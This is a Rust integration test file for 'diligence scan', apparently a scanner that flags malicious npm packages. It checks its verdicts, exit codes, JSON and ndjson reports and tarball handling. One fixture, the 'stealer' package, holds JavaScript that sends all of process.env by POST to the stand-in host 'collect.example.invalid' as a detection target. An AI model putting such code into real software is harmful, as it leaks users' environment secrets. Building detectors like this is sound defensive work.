//! `diligence scan` end to end on the shared malicious-dev corpus: the `diligence.report/1`
//! JSON (per-package verdicts under `packages`, validated against the schema), verdicts, exit
//! codes. No network: folder and tarball targets only.

use assert_cmd::Command;
use std::path::{Path, PathBuf};

fn corpus(sample: &str) -> PathBuf {
    diligence_testkit::corpus("malicious-dev")
        .expect("shared corpus: the test calls corpus_or_skip! first")
        .join(sample)
}

fn scan_json(args: &[&str]) -> (i32, serde_json::Value) {
    let out = Command::cargo_bin("diligence")
        .unwrap()
        .arg("scan")
        .arg("--format")
        .arg("json")
        .args(args)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let schema_file =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../schema/diligence.report-1.schema.json");
    let schema: serde_json::Value =
        serde_json::from_slice(&std::fs::read(schema_file).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&json)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    (out.status.code().unwrap(), json)
}

#[test]
fn malicious_folder_exits_1_with_findings() {
    diligence_testkit::corpus_or_skip!("");
    let dir = corpus("corss-env-7.0.4");
    let (code, json) = scan_json(&[dir.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(json["schema"], "diligence.report/1");
    let pkg = &json["packages"][0];
    assert_eq!(
        pkg["package"],
        serde_json::json!({"name": "corss-env", "version": "7.0.4"})
    );
    assert_eq!(pkg["verdict"], "malicious");
    assert_eq!(pkg["complete"], true);
    assert_eq!(pkg["source"], "path");
    let f = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "code/env-exfiltration")
        .unwrap();
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["package"]["name"], "corss-env");
    assert_eq!(
        f["location"],
        serde_json::json!({"file": "package-setup.js", "line": 15})
    );
    assert_eq!(f["evidence"]["snippet"], "env: env");
    assert_eq!(f["evidence"]["verdict"], "malicious");
}

#[test]
fn benign_folder_exits_0() {
    diligence_testkit::corpus_or_skip!("");
    let dir = corpus("crc32c-native-1.4.0");
    let (code, json) = scan_json(&[dir.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(json["packages"][0]["verdict"], "clean");
    assert_eq!(json["packages"][0]["score"], 0);
    assert_eq!(json["not_evaluated"], serde_json::json!([]));
}

#[test]
fn tarball_target_and_unreadable_target() {
    diligence_testkit::corpus_or_skip!("");
    // Pack a benign sample into a .tgz in memory (package/ prefix, as npm pack does).
    let dir = corpus("tiny-pubsub-1.2.0");
    let tmp = tempfile::tempdir().unwrap();
    let tgz = tmp.path().join("tiny-pubsub-1.2.0.tgz");
    let file = std::fs::File::create(&tgz).unwrap();
    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for name in ["package.json", "dist/tiny-pubsub.umd.min.js"] {
        tar.append_path_with_name(dir.join(name), format!("package/{name}"))
            .unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
    let missing = tmp.path().join("missing.tgz");
    let (code, json) = scan_json(&[tgz.to_str().unwrap(), missing.to_str().unwrap()]);
    assert_eq!(code, 2, "an unreadable target means not evaluated");
    assert_eq!(json["packages"].as_array().unwrap().len(), 1);
    assert_eq!(json["packages"][0]["package"]["name"], "tiny-pubsub");
    assert_eq!(json["packages"][0]["verdict"], "clean");
    assert_eq!(json["summary"]["packages"], 1);
    let ne = &json["not_evaluated"][0];
    assert_eq!(ne["what"], format!("code scan of {}", missing.display()));
    assert_eq!(
        ne["why"],
        "no such file or folder (and not a name@version spec)"
    );
}

/// `(exit code, stdout, stderr)` of `diligence scan <args>` in the human format.
fn scan_human(args: &[&str]) -> (i32, String, String) {
    let out = Command::cargo_bin("diligence")
        .unwrap()
        .arg("scan")
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A gzip-compressed tar of `entries` (`path`, bytes).
fn tgz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (path, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, path, *bytes).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// A clean package with a weak signal (an API client sending its own token) is never printed
/// as bare `clean`; `--verbose` lists the signal.
#[test]
fn weak_signals_are_counted_and_listed_with_verbose() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("gh-client");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(
        dir.join("package.json"),
        r#"{"name":"gh-client","version":"1.0.0"}"#,
    )
    .unwrap();
    std::fs::write(
        dir.join("index.js"),
        "const https = require('https');\nmodule.exports = (path) => https.request({ hostname: 'api.github.com', path, headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n",
    )
    .unwrap();
    let d = dir.to_str().unwrap();
    let (code, stdout, stderr) = scan_human(&[d]);
    assert_eq!(code, 0);
    assert!(
        stdout.starts_with("gh-client@1.0.0: clean (1 weak signal) "),
        "{stdout}"
    );
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert!(
        stderr.contains("note: weak signals of clean packages are listed with -v"),
        "{stderr}"
    );
    let (_, verbose, _) = scan_human(&["--verbose", d]);
    assert!(
        verbose.contains("medium   code/env-exfiltration index.js:2"),
        "{verbose}"
    );
    let (_, json) = scan_json(&[d]);
    assert_eq!(json["packages"][0]["weak_signals"], 1);
}

#[test]
fn targets_without_package_json_are_errors() {
    diligence_testkit::corpus_or_skip!("");
    let tmp = tempfile::tempdir().unwrap();
    let empty_dir = tmp.path().join("empty");
    std::fs::create_dir(&empty_dir).unwrap();
    let lockfiles = diligence_testkit::corpus("lockfiles")
        .expect("shared corpus: the test calls corpus_or_skip! first");
    let empty_tgz = tmp.path().join("empty.tgz");
    std::fs::write(&empty_tgz, b"").unwrap();
    let no_manifest_tgz = tmp.path().join("no-manifest.tgz");
    std::fs::write(
        &no_manifest_tgz,
        tgz(&[("package/index.js", b"module.exports = 1;\n")]),
    )
    .unwrap();
    for target in [&empty_dir, &lockfiles, &empty_tgz, &no_manifest_tgz] {
        let t = target.to_str().unwrap();
        let (code, stdout, stderr) = scan_human(&[t]);
        assert_eq!(code, 2, "{t}: {stdout}{stderr}");
        assert!(!stdout.contains("clean"), "{t}: {stdout}");
        assert_eq!(stderr.lines().count(), 1, "{t}: {stderr}");
        assert!(
            stderr.starts_with(&format!("error: {t}: not an npm package: no package.json")),
            "{t}: {stderr}"
        );
    }
}

#[test]
fn truncated_tarball_is_not_evaluated_not_clean() {
    let big: Vec<u8> = (0..200_000u32)
        .map(|i| {
            b"abcdefghijklmnopqrstuvwxyz;\n"[(i.wrapping_mul(2_654_435_761) >> 27) as usize % 28]
        })
        .collect();
    let bytes = tgz(&[
        (
            "package/package.json",
            br#"{"name":"cut","version":"1.0.0"}"#,
        ),
        ("package/data.txt", &big),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let cut = tmp.path().join("cut.tgz");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let (code, stdout, stderr) = scan_human(&[cut.to_str().unwrap()]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    let first = stdout.lines().next().unwrap_or_default();
    assert!(first.starts_with("cut@1.0.0: not evaluated ("), "{stdout}");
    assert!(!first.contains("clean"), "{stdout}");
    assert!(
        stderr.contains("warning: cut@1.0.0: not evaluated"),
        "{stderr}"
    );
}

#[test]
fn errors_name_the_target_once() {
    let readme = Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.toml");
    let t = readme.to_str().unwrap();
    let (code, _, stderr) = scan_human(&[t]);
    assert_eq!(code, 2);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert_eq!(stderr.matches(t).count(), 1, "{stderr}");
    assert!(
        stderr.starts_with(&format!("error: {t}: not a gzip-compressed tarball (")),
        "{stderr}"
    );
    let missing = Path::new(env!("CARGO_MANIFEST_DIR")).join("no-such-dir");
    let m = missing.to_str().unwrap();
    let (code, _, stderr) = scan_human(&[m]);
    assert_eq!(code, 2);
    assert_eq!(stderr.matches(m).count(), 1, "{stderr}");
}

/// A clean package prints its verdict line only; `--verbose` also lists its lower findings
/// (here the info `code/install-script` of a `node build.js` postinstall), and the JSON
/// counts medium and low findings as weak signals (info is not one).
#[test]
fn clean_package_lists_lower_findings_only_with_verbose() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        r#"{"name":"probe","version":"1.0.0","scripts":{"postinstall":"node build.js"}}"#,
    )
    .unwrap();
    std::fs::write(
        dir.path().join("build.js"),
        "console.log(require('os').platform());\n",
    )
    .unwrap();
    let target = dir.path().to_str().unwrap();
    let (code, out, _) = scan_human(&["--no-registry", target]);
    assert_eq!(code, 0);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(
        out.starts_with("probe@1.0.0: clean (score 0, 2 files, "),
        "{out}"
    );
    let (code, out, _) = scan_human(&["--no-registry", "--verbose", target]);
    assert_eq!(code, 0);
    assert!(
        out.contains("info     code/install-script package.json:1 lifecycle script `postinstall: node build.js`"),
        "{out}"
    );
    let (code, json) = scan_json(&["--no-registry", target]);
    assert_eq!(code, 0);
    assert_eq!(json["packages"][0]["verdict"], "clean");
    assert_eq!(json["packages"][0]["weak_signals"], 0);
}

/// `scan --stdin --format ndjson`: one record per target line as each finishes (comments and
/// blank lines skipped but counted in `seq`), an unreadable target is an error record, not
/// the end of the stream; `--shard I/N` splits the lines into disjoint sets that cover them.
#[test]
fn stdin_ndjson_one_record_per_target_and_shards_cover_the_list() {
    let tmp = tempfile::tempdir().unwrap();
    let bad = tmp.path().join("stealer");
    let good = tmp.path().join("plain");
    for (dir, name, code) in [
        (
            &bad,
            "stealer",
            "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nreq.write(body);\nreq.end();\n",
        ),
        (&good, "plain", "module.exports = (a, b) => a + b;\n"),
    ] {
        std::fs::create_dir(dir).unwrap();
        std::fs::write(
            dir.join("package.json"),
            format!(r#"{{"name":"{name}","version":"1.0.0"}}"#),
        )
        .unwrap();
        std::fs::write(dir.join("index.js"), code).unwrap();
    }
    let missing = tmp.path().join("missing.tgz");
    let input = format!(
        "# backfill\n{}\n\n{}\n{}\n",
        bad.display(),
        good.display(),
        missing.display()
    );
    let run = |extra: &[&str]| {
        let out = Command::cargo_bin("diligence")
            .unwrap()
            .current_dir(tmp.path())
            .args(["scan", "--stdin", "--format", "ndjson"])
            .args(extra)
            .write_stdin(input.clone())
            .output()
            .unwrap();
        let mut records: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        records.sort_by_key(|r| r["seq"].as_u64());
        (out.status.code().unwrap(), records)
    };
    let (code, records) = run(&[]);
    assert_eq!(code, 1);
    let summary: Vec<(u64, &str, &str)> = records
        .iter()
        .map(|r| {
            (
                r["seq"].as_u64().unwrap(),
                r["status"].as_str().unwrap(),
                r["verdict"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (2, "ok", "malicious"),
            (4, "ok", "clean"),
            (5, "error", "-")
        ]
    );
    assert_eq!(records[0]["schema"], "diligence.scan-record/1");
    assert_eq!(records[2]["exit_code"], 2);
    // Two shards: every target exactly once.
    let mut seqs: Vec<u64> = ["1/2", "2/2"]
        .iter()
        .flat_map(|s| run(&["--shard", s]).1)
        .map(|r| r["seq"].as_u64().unwrap())
        .collect();
    seqs.sort();
    assert_eq!(seqs, [2, 4, 5]);
}
